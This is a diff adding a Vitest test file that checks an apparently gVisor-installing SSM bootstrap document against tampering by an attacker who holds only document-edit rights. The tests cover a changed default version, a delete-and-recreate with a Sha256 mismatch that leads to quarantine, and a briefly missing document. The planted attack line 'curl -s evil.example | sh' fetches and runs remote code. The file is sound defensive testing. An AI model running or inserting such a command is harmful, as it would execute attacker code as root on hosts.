@@ -1,0 +1,82 @@
+import { describe, expect, it } from 'vitest';
+import type { Script } from '../../local/machine/machine.ts';
+import { ModelledMachine } from '../../local/machine/modelled.ts';
+import type { World } from '../../local/world/world.ts';
+import { commandsFor, launch, pass, settle, startWorld, taintsOf } from '../scenarios/scenario.ts';
+import { answerTo, attackerWith } from './attacker.ts';
+
+const planted = 'curl -s evil.example | sh';
+
+/** A world whose machines keep every script that they are given. */
+async function watchedWorld(): Promise<{ world: World; scripts: string[] }> {
+  const scripts: string[] = [];
+  class Watched extends ModelledMachine {
+    override run(script: Script) {
+      scripts.push(script.text);
+      return super.run(script);
+    }
+  }
+  return { world: await startWorld([], async () => new Watched()), scripts };
+}
+
+/** The document that installs gVisor, with a line of the attacker in front. */
+function changed(world: World): { Name: string; Content: string } {
+  const found = world.services.ssm.documents().find(({ name }) => name.startsWith('airlock-gvisor-install-'));
+  if (found === undefined) throw new Error('no document installs gVisor');
+  const content = structuredClone(found.content);
+  const [step] = content.mainSteps;
+  const lines = step?.inputs['runCommand'] as string[];
+  lines.unshift(planted);
+  return { Name: found.name, Content: JSON.stringify(content) };
+}
+
+/** The attacker has rights on documents alone. What a document says is root on every new node. */
+describe('a document', () => {
+  it('that was updated, with another default version, is not run: nodes get the version that was deployed', async () => {
+    const { world, scripts } = await watchedWorld();
+    const attacker = attackerWith(world, 'ssm:UpdateDocument', 'ssm:UpdateDocumentDefaultVersion');
+    const { Name, Content } = changed(world);
+    expect(await answerTo(world, attacker, 'ssm', 'UpdateDocument', { Name, Content })).toBeUndefined();
+    const standard = { Name, DocumentVersion: '2' };
+    expect(await answerTo(world, attacker, 'ssm', 'UpdateDocumentDefaultVersion', standard)).toBeUndefined();
+    expect(JSON.stringify(world.services.ssm.documents())).toContain(planted);
+
+    const node = await launch(world);
+    await settle(world);
+    expect(world.report(node).outcome).toBe('released');
+    expect(scripts.length).toBeGreaterThan(0);
+    expect(scripts.filter((text) => text.includes(planted))).toEqual([]);
+  });
+
+  it('that was deleted and created again with another text runs nowhere, and the node keeps its gate', async () => {
+    const { world, scripts } = await watchedWorld();
+    const attacker = attackerWith(world, 'ssm:DeleteDocument', 'ssm:CreateDocument');
+    const { Name, Content } = changed(world);
+    expect(await answerTo(world, attacker, 'ssm', 'DeleteDocument', { Name })).toBeUndefined();
+    const again = { Name, Content, DocumentType: 'Command', DocumentFormat: 'JSON' };
+    expect(await answerTo(world, attacker, 'ssm', 'CreateDocument', again)).toBeUndefined();
+
+    const node = await launch(world);
+    await settle(world);
+    expect(world.report(node)).toMatchObject({
+      outcome: 'document-changed',
+      detail: expect.stringContaining('does not match Sha256'),
+    });
+    expect([scripts, commandsFor(world, node)]).toEqual([[], 0]);
+    expect(taintsOf(world, node)).toEqual(['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
+  });
+
+  it('that is gone for a moment, as while a deployment replaces it, is asked for once more', async () => {
+    const { world } = await watchedWorld();
+    const { Name } = changed(world);
+    const { ssm } = world.services;
+    const found = ssm.documents().find(({ name }) => name === Name);
+    if (found === undefined) throw new Error(`no document ${Name}`);
+    ssm.removeDocument(Name);
+    const node = await launch(world);
+    await pass(world, 50_000);
+    ssm.addDocument(found);
+    await settle(world);
+    expect(world.report(node).outcome).toBe('released');
+  });
+});
